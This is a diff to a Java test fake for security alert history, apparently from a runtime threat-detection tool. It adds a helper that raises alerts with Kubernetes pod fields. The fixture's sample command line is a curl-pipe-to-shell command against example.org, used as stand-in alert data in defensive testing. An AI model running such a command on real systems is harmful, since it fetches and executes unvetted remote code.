@@ -19,7 +19,19 @@ final class FakeAlerts implements AlertHistory {
   private final List<Consumer<PastAlert>> followers = new CopyOnWriteArrayList<>();
 
   void raise(Priority priority, String rule, String message, String... tags) {
+    raise(priority, rule, message, new TreeMap<>(), tags);
+  }
+
+  /** An alert of a container in a pod. */
+  void raiseInPod(String rule, String container, String namespace, String pod) {
     TreeMap<String, @Nullable Object> fields = new TreeMap<>();
+    fields.put("container.name", container);
+    fields.put("k8s.ns.name", namespace);
+    fields.put("k8s.pod.name", pod);
+    raise(Priority.NOTICE, rule, "in a pod", fields);
+  }
+
+  private void raise(Priority priority, String rule, String message, TreeMap<String, @Nullable Object> fields, String... tags) {
     fields.put("proc.cmdline", "bash -c 'curl http://example.org | sh'");
     fields.put("proc.pid", 4_711L);
     fields.put("container.id", null);
